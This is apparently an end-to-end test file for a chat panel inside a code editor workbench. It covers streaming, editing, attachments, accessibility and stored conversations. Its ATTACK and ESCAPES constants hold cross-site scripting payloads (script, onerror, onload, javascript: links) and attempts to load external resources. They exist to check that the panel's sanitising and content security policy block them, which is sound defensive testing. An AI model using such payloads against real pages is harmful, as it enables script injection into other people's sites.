import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { FrameLocator } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Workbench, whyNoWorkbench } from '../support/workbench.ts';

/** Patience with a slow machine. */
const eventually = <T>(value: () => Promise<T> | T) => expect.poll(value, { timeout: 120_000 });

const OUTLINE =
  '请为主题“智能客服系统升级”的工作总结拟定写作大纲，全文约1200字。每行一节，格式为“序号、标题（约N字）：要点”，只输出大纲。';
const WHO = '你能做什么？';
const TEXT = '第一段。\n\n第二段：项目组完成了知识库建设。\n\n第三段。\n';

/** What a model could answer to take over the page; each would leave a mark on it. */
const ATTACK = [
  '<script>document.body.dataset.attacked = "script"</script>',
  '<img src="x" onerror="document.body.dataset.attacked = \'img\'">',
  '<svg onload="document.body.dataset.attacked = \'svg\'"></svg>',
  '[link](javascript:document.body.dataset.attacked=1) ![picture](https://example.com/track.png)',
  '<style>body { display: none }</style> **whole**',
].join('\n\n');

/** What a page that was taken over would try; each attempt is an event that names the directive which forbids it. */
const ESCAPES = `new Promise((resolve) => {
  const blocked = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective));
  const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
  add('script', { textContent: 'globalThis.escaped = 1' });
  add('script', { src: 'https://example.com/escape.js' });
  add('img', { src: 'https://example.com/track.png' });
  add('iframe', { src: 'https://example.com/' });
  const holder = document.createElement('div');
  holder.innerHTML = '<b onclick="globalThis.escaped = 2" style="color: red">x</b>';
  document.body.append(holder);
  holder.firstChild.click();
  fetch('http://127.0.0.1:9/').catch(() => undefined);
  setTimeout(() => resolve(blocked), 1000);
})`;

/** Presses Escape as soon as there is something of an answer: on a fast machine the whole is there before a test can. */
const ESCAPE_AT_FIRST_TEXT = `
  new MutationObserver((_, observer) => {
    if (!document.querySelector('.answer-text')?.textContent.includes('一、')) return;
    observer.disconnect();
    document.querySelector('.input-area textarea').dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape' }));
  }).observe(document.querySelector('.turns'), { childList: true, subtree: true, characterData: true });
`;

/** More than half of what the demo model's context has room for. */
const LONG_TEXT = '项目组完成了知识库建设。'.repeat(400);

describe.skipIf(whyNoWorkbench())('The chat in the side panel', () => {
  let workbench: Workbench;
  /** Addresses that the workbench and its views have asked for. */
  const requested: string[] = [];

  beforeAll(async () => {
    workbench = await Workbench.open({
      'insert.md': TEXT,
      'replace.md': TEXT,
      'attach.md': TEXT,
      'long.md': LONG_TEXT,
    });
    workbench.page.on('request', (request) => requested.push(request.url()));
    await workbench.page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await workbench.runCommand('TeleChat: New Conversation');
    await question().waitFor();
  });

  afterEach(({ task }) => workbench.explainFailure(task));

  afterAll(() => workbench?.close());

  it('begins with questions that the model can answer, and streams the answer', async () => {
    await chat().locator('.input-area textarea:focus').waitFor();
    await workbench.screenshot('chat-1-welcome');
    await chat().locator('.suggestion', { hasText: '拟定写作大纲' }).click();
    expect(await question().inputValue()).toBe(OUTLINE);
    const steps = await countSteps();
    await question().press('Enter');
    await finished(1);
    expect(await steps()).toBeGreaterThan(5);
    expect(await answer(0).textContent()).toContain('一、');
    expect(await answer(0).locator('br').count()).toBeGreaterThan(1);
    expect(await question().inputValue()).toBe('');
    const meter = chat().getByRole('meter');
    await eventually(async () => Number(await meter.getAttribute('aria-valuenow'))).toBeGreaterThan(100);
    expect(await chat().locator('[aria-live=polite].announcer').textContent()).toContain('二、');
    await workbench.screenshot('chat-2-answer');
  });

  it('breaks the line with Shift+Enter', async () => {
    await question().press('Shift+Enter');
    await question().pressSequentially(WHO);
    expect(await question().inputValue()).toBe(`\n${WHO}`);
    await question().press('Enter');
    await finished(2);
    expect(await answer(1).textContent()).toContain('演示模型');
  });

  it('has an edited question answered anew, without what followed, and brings it back', async () => {
    await chat().getByRole('button', { name: 'Edit' }).first().click();
    const box = chat().locator('.question-editor textarea');
    expect(await box.inputValue()).toBe(OUTLINE);
    await box.fill('你好');
    await workbench.screenshot('chat-3-edit');
    await box.press('Enter');
    await finished(1);
    expect(await chat().locator('.question-text').allInnerTexts()).toEqual(['你好']);
    await chat().getByRole('button', { name: 'Bring It Back' }).click();
    await eventually(() => chat().locator('.question-text').allInnerTexts()).toEqual([OUTLINE, WHO]);
  });

  it('never sends with the Enter that chooses a candidate of an input method', async () => {
    await workbench.runCommand('TeleChat: New Conversation');
    await chat().locator('.turn').first().waitFor({ state: 'detached' });
    await question().focus();
    const devtools = await workbench.page.context().newCDPSession(workbench.page);
    const composing = (text: string) =>
      devtools.send('Input.imeSetComposition', {
        text,
        selectionStart: text.length,
        selectionEnd: text.length,
      });
    const enter = async (keyCode: number) => {
      const key = { key: 'Enter', code: 'Enter', windowsVirtualKeyCode: keyCode };
      await devtools.send('Input.dispatchKeyEvent', { type: 'rawKeyDown', ...key });
      await devtools.send('Input.dispatchKeyEvent', { type: 'keyUp', ...key });
    };
    await composing('ni');
    await composing('nihao');
    await eventually(() => question().inputValue()).toBe('nihao');
    // Within the composition, and, as some systems have it, right after its end as the input method's own key.
    await enter(13);
    await devtools.send('Input.insertText', { text: '你好' });
    await enter(229);
    await eventually(() => question().inputValue()).toBe('你好');
    await workbench.page.waitForTimeout(300);
    expect(await chat().locator('.turn').count()).toBe(0);
    expect(await question().inputValue()).toBe('你好');
    await question().press('Enter');
    await chat().locator('.question-text', { hasText: '你好' }).waitFor();
    await finished(1);
  });

  it('takes a selection as material, and its answer goes into the editor or a new document', async () => {
    await selectLine('attach.md');
    await workbench.runCommand('TeleChat: Ask About the Selection');
    await chat().locator('.input-area .chip', { hasText: 'attach.md:3' }).waitFor();
    await question().fill('你能做什么？');
    await question().press('Enter');
    await finished(2);
    await chat().locator('.question .chip', { hasText: 'attach.md:3' }).waitFor();
    expect(await chat().locator('.input-area .chip').count()).toBe(0);

    const { page } = workbench;
    await use('Copy');
    await page.locator('.statusbar', { hasText: 'The answer was copied.' }).waitFor();
    const copied = await page.evaluate<string>('navigator.clipboard.readText()');
    expect(copied.trim()).toContain((await answer(1).locator('p').first().textContent()) ?? 'no answer');

    await openFile('insert.md');
    await workbench.page.keyboard.press('Control+End');
    await showChat();
    await use('Insert');
    const inserted = (await saveChanged('insert.md')).replace(TEXT, '');
    expect(inserted.trim()).not.toBe('');

    await selectLine('replace.md');
    await showChat();
    await use('Replace');
    expect(await saveChanged('replace.md')).toBe(TEXT.replace('第二段：项目组完成了知识库建设。', inserted));

    await use('New Document');
    await workbench.tab('Untitled').waitFor();
    await workbench.screenshot('chat-5-uses');
  });

  it('takes files as material, which can be taken off again', async () => {
    await chat().getByRole('button', { name: 'Attach…' }).click();
    await workbench.pick('What is the question about', 'Files…');
    const dialog = workbench.page.locator('.quick-input-widget input[type=text]');
    await eventually(() => dialog.inputValue()).toContain(path.basename(workbench.folder));
    await dialog.fill(path.join(workbench.folder, 'long.md'));
    await workbench.page.locator('.quick-input-list .monaco-list-row', { hasText: 'long.md' }).waitFor();
    await workbench.page.keyboard.press('Enter');
    await chat().locator('.input-area .chip', { hasText: 'long.md' }).waitFor();
    await chat().getByRole('button', { name: 'Remove long.md' }).click();
    await eventually(() => chat().locator('.input-area .chip').count()).toBe(0);
  });

  it('is used by the keyboard alone, and has a name for everything', async () => {
    const focused = () =>
      inPage<string>('document.activeElement.textContent || document.activeElement.tagName');
    await question().focus();
    const reached: string[] = [];
    for (let step = 0; step < 6; step++) {
      await workbench.page.keyboard.press('Shift+Tab');
      reached.push(await focused());
    }
    expect(reached).toEqual(['Regenerate', 'New Document', 'Replace', 'Insert', 'Copy', 'Edit']);
    const page = await chat().locator('body').ariaSnapshot();
    for (const part of [
      'main "Conversation"',
      'region "You"',
      'region "TeleChat"',
      'textbox "Question"',
      'meter',
    ]) {
      expect(page).toContain(part);
    }
    expect(page).not.toMatch(/- (?:button|textbox|meter|region|main)(?: \[|$)/m);
  });

  it('may load nothing, reach nowhere and run no script but its own', async () => {
    const own = /^(?:blob:)?(?:https?|wss?):\/\/(?:127\.0\.0\.1|[^/]*\.vscode-cdn\.net)[:/]/;
    expect(requested.filter((url) => !own.test(url))).toEqual([]);
    const blocked = await inPage<string[]>(ESCAPES);
    expect([...new Set(blocked)].sort()).toEqual([
      'connect-src',
      'frame-src',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
    ]);
    expect(await inPage('globalThis.escaped')).toBeUndefined();
  });

  it('is kept over a reload, and nothing that an answer holds comes to life', async () => {
    const questions = await chat().locator('.question-text').allInnerTexts();
    await question().fill('未发出的问题');
    const file = await storedChat('你好');
    const stored = JSON.parse(await readFile(file, 'utf8')) as { turns: { answer: string }[] };
    const [first] = stored.turns;
    if (!first) throw new Error('no turn was stored');
    first.answer = ATTACK;
    await writeFile(file, JSON.stringify(stored));
    await writeFile(file.replace(/[^/]+$/, 'broken.json'), '{"formatVersion":1');

    await workbench.showExplorer();
    // In a browser the workbench writes down what its views keep every five seconds, when it has time.
    await workbench.page.waitForTimeout(15_000);
    await workbench.reload();
    await showChat();
    await eventually(() => chat().locator('.question-text').allInnerTexts()).toEqual(questions);
    await answer(0).locator('strong', { hasText: 'whole' }).waitFor();
    await workbench.screenshot('chat-6-reloaded');
    expect(await answer(0).locator('script, img, svg, style, a').count()).toBe(0);
    expect(await answer(0).textContent()).toContain('<script>');
    expect(await chat().locator('body').getAttribute('data-attacked')).toBeNull();
    expect(await question().inputValue()).toBe('未发出的问题');
    await workbench.notification(/broken\.json — it cannot be read/).waitFor();
    expect(await readFile(file.replace(/[^/]+$/, 'broken.json'), 'utf8')).toBe('{"formatVersion":1');
    await workbench.runCommand('Notifications: Clear All Notifications');
  });

  it('lists the conversations, finds them by their text, and deletes them with a way back', async () => {
    await workbench.runCommand('TeleChat: Conversations…');
    const rows = workbench.page.locator('.quick-input-list .monaco-list-row');
    const search = workbench.page.locator('.quick-input-widget input[placeholder*="Search titles"]');
    await search.waitFor();
    await eventually(() => rows.count()).toBe(2);
    await search.fill('attacked');
    await eventually(() => rows.count()).toBe(1);
    await workbench.screenshot('chat-7-list');
    await rows.first().hover();
    await rows.first().locator('.codicon-edit').click();
    await workbench.answer('Title of the conversation', '改过的标题');
    await eventually(() => storedChat('改过的标题').catch(() => '')).not.toBe('');
    await workbench.runCommand('TeleChat: Conversations…');
    await search.fill('改过的');
    await eventually(() => rows.count()).toBe(1);
    await rows.first().hover();
    await rows.first().locator('.codicon-trash').click();
    await eventually(() => rows.locator('.label-name', { hasText: '改过的' }).count()).toBe(0);
    await workbench.page.keyboard.press('Escape');
    await chat().locator('.turn').first().waitFor({ state: 'detached' });
    await workbench
      .notification(/“改过的标题” was deleted/)
      .getByText('Undo')
      .click();
    await chat().locator('.question-text', { hasText: '你好' }).waitFor();
    await eventually(() => storedChat('改过的标题').catch(() => '')).not.toBe('');
  });

  it('stops while the model still reads, and leaves out the oldest turns when the context is full', async () => {
    await workbench.runCommand('TeleChat: New Conversation');
    await chat().locator('.turn').first().waitFor({ state: 'detached' });
    await openFile('long.md');
    await showChat();
    const ask = async () => {
      await chat().getByRole('button', { name: 'Attach…' }).click();
      await workbench.pick('What is the question about', 'Open Document');
      await chat().locator('.input-area .chip', { hasText: 'long.md' }).waitFor();
      await question().fill('你好');
      await question().press('Enter');
    };
    await ask();
    await chat().getByRole('button', { name: 'Stop' }).click();
    await chat().getByText('Stopped.', { exact: true }).last().waitFor();
    expect(await answer(0).textContent()).toBe('');

    await use('Regenerate');
    await finished(1);
    await ask();
    await finished(2);
    await chat().getByText('the model no longer sees what is above').waitFor();
    expect(await chat().locator('.turn.forgotten').count()).toBe(1);
    await workbench.screenshot('chat-8-full');
  });

  it('keeps what was written when it is stopped with Escape', async () => {
    await workbench.runCommand('TeleChat: New Conversation');
    await chat().locator('.turn').first().waitFor({ state: 'detached' });
    await question().fill(OUTLINE);
    await inPage(ESCAPE_AT_FIRST_TEXT);
    await question().press('Enter');
    await chat().locator('.note', { hasText: 'Stopped.' }).waitFor();
    expect(await answer(0).textContent()).toContain('一、');
    await use('Regenerate');
    await finished(1);
    await chat().locator('.foot .note').waitFor({ state: 'detached' });
    expect(await answer(0).textContent()).toContain('二、');
  });

  it('moves to the secondary side bar with its conversation, and answers there', async () => {
    // The palette puts commands that move all views before the one for one view.
    const { page } = workbench;
    const row = (text: string | RegExp) =>
      page
        .locator('.quick-input-list .monaco-list-row')
        .filter({ has: page.locator('.label-name').getByText(text, { exact: true }) });
    await page.keyboard.press('F1');
    await page.locator('.quick-input-widget input[type=text]').fill('>View: Move View');
    await row('View: Move View').click();
    await page.locator('.quick-input-widget input[placeholder*="Select a View to Move"]').fill('Chat');
    await row('Chat').first().click();
    await row('New Secondary Side Bar Entry').click();
    await page.locator('.part.auxiliarybar', { hasText: 'TeleChat' }).waitFor();
    await eventually(() => chat().locator('.question-text').allInnerTexts()).toEqual([OUTLINE]);
    const bar = await workbench.page.locator('.part.auxiliarybar').boundingBox();
    const view = await workbench.page.locator('iframe.webview.ready').boundingBox();
    expect(view?.x).toBeGreaterThanOrEqual(bar?.x ?? Number.NaN);
    await question().fill(WHO);
    await question().press('Enter');
    await finished(2);
    await workbench.screenshot('chat-10-secondary');
  });

  it('follows the theme', async () => {
    const colour = () => inPage<string>('getComputedStyle(document.body).color');
    const before = await colour();
    await workbench.runCommand('Preferences: Toggle between Light/Dark Themes');
    await eventually(colour).not.toBe(before);
    await workbench.screenshot('chat-9-theme');
  });

  function chat(): FrameLocator {
    return workbench.page.frameLocator('iframe.webview.ready').frameLocator('iframe#active-frame');
  }

  function question() {
    return chat().locator('.input-area textarea');
  }

  function answer(index: number) {
    return chat().locator('.answer-text').nth(index);
  }

  /** Waits until this many questions are answered and nothing is under way. */
  async function finished(count: number): Promise<void> {
    await eventually(() => chat().locator('.turn').count()).toBe(count);
    await chat().locator('.turn').last().getByRole('button', { name: 'Regenerate' }).waitFor();
    await chat().getByRole('button', { name: 'Send' }).waitFor();
  }

  /** Presses a button under the last answer. */
  async function use(name: string): Promise<void> {
    await chat().locator('.turn').last().getByRole('button', { name, exact: true }).click();
  }

  /** Opens a file by the Explorer, which takes the place of the chat. */
  async function openFile(name: string): Promise<void> {
    await workbench.showExplorer();
    await workbench.openFile(name);
  }

  /** Saves what the chat has changed, from the editor: the keyboard is in the chat. */
  async function saveChanged(name: string): Promise<string> {
    await workbench.tab(name).and(workbench.page.locator('.dirty')).waitFor();
    await workbench.tab(name).click();
    return workbench.save(name);
  }

  /** Brings the chat back, whose page was gone meanwhile. */
  async function showChat(): Promise<void> {
    await workbench.runCommand('TeleChat: Focus on Chat View');
    await question().waitFor();
  }

  async function selectLine(file: string): Promise<void> {
    await openFile(file);
    const { keyboard } = workbench.page;
    await keyboard.press('Control+Home');
    await keyboard.press('ArrowDown');
    await keyboard.press('ArrowDown');
    await keyboard.press('Shift+End');
  }

  /** Counts how often the answers on the page change. */
  async function countSteps(): Promise<() => Promise<number>> {
    await inPage(`
      globalThis.steps = 0;
      new MutationObserver(() => globalThis.steps++)
        .observe(document.querySelector('.turns'), { childList: true, subtree: true });
    `);
    return () => inPage<number>('globalThis.steps');
  }

  /** Evaluates an expression in the page of the chat. */
  async function inPage<T>(expression: string): Promise<T> {
    const body = await chat().locator('body').elementHandle();
    const frame = await body?.ownerFrame();
    if (!frame) throw new Error('there is no page');
    return frame.evaluate<T>(expression);
  }

  async function storedChat(title: string): Promise<string> {
    for (const file of await workbench.storedFiles('chats')) {
      if (file.endsWith('.json') && (await readFile(file, 'utf8')).includes(`"title":"${title}"`))
        return file;
    }
    throw new Error(`no chat ${title} is stored`);
  }
});
